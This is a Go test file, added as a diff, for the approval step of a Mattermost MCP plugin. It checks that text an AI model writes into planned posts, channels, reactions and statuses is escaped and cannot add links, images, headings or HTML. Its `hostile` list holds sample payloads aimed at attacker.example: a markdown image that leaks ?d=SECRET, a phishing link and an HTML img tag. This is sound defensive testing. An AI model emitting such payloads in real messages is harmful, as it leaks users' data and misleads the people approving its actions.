@@ -1,0 +1,239 @@
+package approval
+
+import (
+	"context"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/mattermost/mattermost/server/public/shared/markdown"
+
+	"github.com/mcp-server/mattermost-plugin-mcp/server/mattermost"
+	"github.com/mcp-server/mattermost-plugin-mcp/server/posting"
+)
+
+// hostile are values full of markdown a model could choose: images and
+// links with its own targets, bare addresses, mentions, fences, newlines.
+var hostile = []string{
+	"x: ![a](https://attacker.example/p.png?d=SECRET) :x",
+	"[Open the confirmation](https://attacker.example/phish)",
+	"@all see https://attacker.example/bare and www.attacker.example or Www.attacker.example, HTTPS://attacker.example/up or me@attacker.example <https://attacker.example/auto>",
+	"```\n![a](https://attacker.example/fence.png)\n```",
+	"one\n# Approved\n> by the admin\n- ![i](https://attacker.example/nl.png)",
+	"`` ` `` [x](https://attacker.example/tick) `",
+	"[ref][1]\n\n[1]: https://attacker.example/ref",
+	"~town-square #tag **bold** _it_ | a | b |",
+}
+
+// linksIn are the targets of every link, image and autolink Mattermost's
+// own markdown parser finds in a message.
+func linksIn(msg string) []string {
+	var out []string
+	markdown.Inspect(msg, func(n any) bool {
+		switch v := n.(type) {
+		case *markdown.InlineLink:
+			out = append(out, v.Destination())
+		case *markdown.InlineImage:
+			out = append(out, "image "+v.Destination())
+		case *markdown.ReferenceLink:
+			out = append(out, v.Destination())
+		case *markdown.ReferenceImage:
+			out = append(out, "image "+v.Destination())
+		case *markdown.Autolink:
+			out = append(out, v.Destination())
+		}
+		return true
+	})
+	return out
+}
+
+// outsideFences is a message without its fenced code blocks.
+func outsideFences(msg string) string {
+	var out []string
+	fence := ""
+	for _, line := range strings.Split(msg, "\n") {
+		switch {
+		case fence == "" && strings.HasPrefix(line, "```"):
+			fence = line
+		case fence != "" && line == fence:
+			fence = ""
+		case fence == "":
+			out = append(out, line)
+		}
+	}
+	return strings.Join(out, "\n")
+}
+
+// hostilePlans are a plan of every kind of write with v in every value the
+// model chose, and in the names others wrote (a channel's, a team's).
+func hostilePlans(v string) []posting.Plan {
+	place := posting.Destination{ChannelID: "c", Label: "~town (id c)", Place: v + ", Acme", Where: v + " (~town), a public channel of team " + v}
+	ch := &posting.ChannelSpec{ID: "c", TeamID: "t", Team: v, Name: "harbour", DisplayName: v, Purpose: v, Header: v}
+	target := &posting.PostTarget{AuthorID: "b", Author: "bob", Files: []string{v}}
+	bob := []posting.Person{{ID: "b", Username: "bob"}}
+	notes := []string{"@bob is notified in " + v + "."}
+	return []posting.Plan{
+		{CallerID: "alice", Dest: place, Message: v, Notes: notes, Files: []posting.Staged{{Name: v, Size: 3}}},
+		{CallerID: "alice", Action: posting.ActionEdit, PostID: "p", Dest: place, Message: v, Previous: v},
+		{CallerID: "alice", Action: posting.ActionReact, PostID: "p", Dest: place, Emoji: v, Previous: v},
+		{CallerID: "alice", Action: posting.ActionUnreact, PostID: "p", Dest: place, Emoji: v, Previous: v},
+		{CallerID: "alice", Action: posting.ActionDelete, PostID: "p", Dest: place, Previous: v, Target: target, Notes: notes},
+		{CallerID: "alice", Action: posting.ActionPin, PostID: "p", Dest: place, Previous: v, Target: target},
+		{CallerID: "alice", Action: posting.ActionUnpin, PostID: "p", Dest: place, Previous: v, Target: target},
+		{CallerID: "alice", Action: posting.ActionJoin, Dest: place, Channel: ch, Notes: notes},
+		{CallerID: "alice", Action: posting.ActionLeave, Dest: place, Channel: ch, Notes: notes},
+		{CallerID: "alice", Action: posting.ActionCreateChan, Dest: posting.Destination{Label: "~harbour", Place: "the new channel in " + v}, Channel: ch, Members: bob, Notes: notes},
+		{CallerID: "alice", Action: posting.ActionAddMembers, Dest: place, Channel: ch, Members: bob, Notes: notes},
+		{CallerID: "alice", Action: posting.ActionSetStatus, Dest: posting.Destination{Label: "your status", Place: "your status"},
+			Status: &posting.StatusSpec{Availability: "away", Text: v, Emoji: v, Zone: "UTC"}},
+		{CallerID: "alice", Action: posting.ActionSchedule, Dest: place, Message: v, SendAt: time.Date(2031, 1, 2, 8, 0, 0, 0, time.UTC), SendZone: "UTC", Notes: notes},
+	}
+}
+
+func actionOf(p posting.Plan) string {
+	if p.Action == "" {
+		return "post"
+	}
+	return p.Action
+}
+
+func TestTheBotsMessageAboutAnyWriteLinksOnlyToTheConfirmationPageWhateverTheModelWrote(t *testing.T) {
+	a := &Approvals{opts: Options{PluginURL: func() string { return "https://mm.example/plugins/mcp-server" }}}
+	page := a.PageURL("rec1")
+	for _, v := range hostile {
+		for _, plan := range hostilePlans(v) {
+			rec := Record{ID: "rec1", State: StatePending, CreatedAt: time.Now(), Action: plan.Action, Place: plan.Dest.PlaceText()}
+			dm := a.askingText(plan, rec, time.UTC)
+			if links := linksIn(dm); len(links) != 1 || links[0] != page {
+				t.Errorf("%s with %q: the message links %q, not only the page:\n%s", actionOf(plan), v, links, dm)
+			}
+			if out := outsideFences(dm); strings.Contains(out, "\n# ") || strings.Contains(out, "\n> ") {
+				t.Errorf("%s with %q: a value wrote a line of its own:\n%s", actionOf(plan), v, dm)
+			}
+			for _, state := range []string{StatePosted, StateDeclined, StateFailed} {
+				done := rec
+				done.State, done.Outcome = state, "Mattermost refused it: "+v
+				if state == StatePosted {
+					done.Permalink = "https://mm.example/acme/pl/p"
+				}
+				text := a.settledText(done)
+				links := linksIn(text)
+				if len(links) > 1 || (len(links) == 1 && links[0] != done.Permalink) {
+					t.Errorf("%s %s with %q: the outcome links %q:\n%s", actionOf(plan), state, v, links, text)
+				}
+			}
+		}
+	}
+}
+
+func TestTheModelsValuesInTheBotsMessageAreCodeAndSaySoAndTheNamesOfOthersAreEscaped(t *testing.T) {
+	a := &Approvals{opts: Options{PluginURL: func() string { return "https://mm.example/plugins/mcp-server" }}}
+	v := "![a](https://attacker.example/p.png?d=SECRET)"
+	plan := posting.Plan{CallerID: "alice", Action: posting.ActionCreateChan, Dest: posting.Destination{Label: "~harbour", Place: "the new channel in Acme"},
+		Channel: &posting.ChannelSpec{TeamID: "t", Team: "Acme", Name: "harbour", DisplayName: v, Purpose: "`run` this"}}
+	dm := a.askingText(plan, Record{ID: "r", State: StatePending, CreatedAt: time.Now()}, time.UTC)
+	for _, want := range []string{
+		"**Create the public channel `" + v + "` in Acme**",
+		"- Name: `" + v + "` (written by the AI)",
+		"- Address: `~harbour` (written by the AI)",
+		"- Purpose: `` `run` this `` (written by the AI)",
+	} {
+		if !strings.Contains(dm, want) {
+			t.Errorf("the message lacks %q:\n%s", want, dm)
+		}
+	}
+	if got := markdownText("Town Square ![a](https://x.example/i.png) me@x.example"); got != `Town Square !\[a\](https\:\/\/x.example/i.png) me\@x.example` {
+		t.Errorf("escaped as %q", got)
+	}
+}
+
+func TestACodeSpanHoldsAnyValueOnOneLineBehindAFenceLongerThanItsBackticks(t *testing.T) {
+	for _, c := range []struct{ in, want string }{
+		{"thumbsup", "`thumbsup`"},
+		{"a`b", "``a`b``"},
+		{"``x", "``` ``x ```"},
+		{"one\ntwo\r\nthree", "`one↵two↵three`"},
+		{"bell\a", "`bell\uFFFD`"},
+		{"", "(empty)"},
+	} {
+		if got := codeSpan(c.in); got != c.want {
+			t.Errorf("codeSpan(%q) = %q, want %q", c.in, got, c.want)
+		}
+	}
+	for _, v := range hostile {
+		span := codeSpan(v)
+		var spans []string
+		markdown.Inspect(span, func(n any) bool {
+			if s, ok := n.(*markdown.CodeSpan); ok {
+				spans = append(spans, s.Code)
+			}
+			return true
+		})
+		if len(spans) != 1 || len(linksIn(span)) != 0 || strings.Contains(span, "\n") {
+			t.Errorf("codeSpan(%q) = %q parses as spans %q, links %q", v, span, spans, linksIn(span))
+		}
+	}
+}
+
+func TestNoValueOfTheModelsWritesALineOfItsOwnIntoTheClientsQuestionOutsideItsFrame(t *testing.T) {
+	for _, v := range hostile {
+		for _, plan := range hostilePlans(v) {
+			q := Describe(plan)
+			inFrame := ""
+			for _, line := range strings.Split(q, "\n") {
+				switch {
+				case inFrame == "" && strings.HasPrefix(line, "----- ") && strings.HasSuffix(line, " -----"):
+					inFrame = strings.TrimSuffix(strings.TrimPrefix(line, "----- "), " -----")
+					continue
+				case inFrame != "" && line == "----- end of "+inFrame+" -----":
+					inFrame = ""
+					continue
+				case inFrame != "":
+					continue
+				}
+				for _, own := range strings.Split(v, "\n")[1:] {
+					if own != "" && line == own {
+						t.Errorf("%s with %q: %q stands as a line of the question outside a frame:\n%s", actionOf(plan), v, line, q)
+					}
+				}
+			}
+			if inFrame != "" {
+				t.Errorf("%s with %q: the frame %q never closes:\n%s", actionOf(plan), v, inFrame, q)
+			}
+		}
+	}
+}
+
+func TestTheHeadingOnThePageMarksTheModelsValueAndEscapesIt(t *testing.T) {
+	f := newRoutes(t)
+	v := `<img src="https://attacker.example/p.png">`
+	plan := posting.Plan{CallerID: "alice", Action: posting.ActionCreateChan, Dest: posting.Destination{Label: "~harbour", Place: "the new channel in Acme"},
+		Channel: &posting.ChannelSpec{TeamID: "t", Team: "Acme", Name: "harbour", DisplayName: v}}
+	rec, err := f.store.Create("alice", Title(plan), plan, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	page := f.do("GET", Path+"/"+rec.ID, "alice").Body.String()
+	want := `<h1 id="heading">Create the public channel <code class="by-ai" title="Written by the AI">` + htmlEscaped(v) + `</code> in Acme</h1>`
+	if !strings.Contains(page, want) || strings.Contains(page, "<img src=\"https://attacker") {
+		t.Fatalf("the page's heading is not %q:\n%s", want, page)
+	}
+}
+
+func TestAnAnsweredReactionStillNamesItsEmojiThoughItsPlanIsDropped(t *testing.T) {
+	f := newRoutes(t)
+	a := testApprovals(f)
+	plan := posting.Plan{CallerID: "alice", Action: posting.ActionReact, PostID: "p1", Emoji: "tada", Previous: "we shipped",
+		Dest: posting.Destination{ChannelID: "c", Label: "~town-square"}}
+	rec, err := f.store.Create("alice", Title(plan), plan, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	done, err := f.store.Accept(context.Background(), (*mattermost.Gateway)(nil).As("alice"), rec.ID, a.run)
+	if err != nil || done.Plan != nil {
+		t.Fatalf("accept: %+v %v", done, err)
+	}
+	if o := a.outcome(done); o.Plan.Emoji != "tada" || o.Plan.Action != posting.ActionReact {
+		t.Fatalf("the outcome's plan is %+v", o.Plan)
+	}
+}
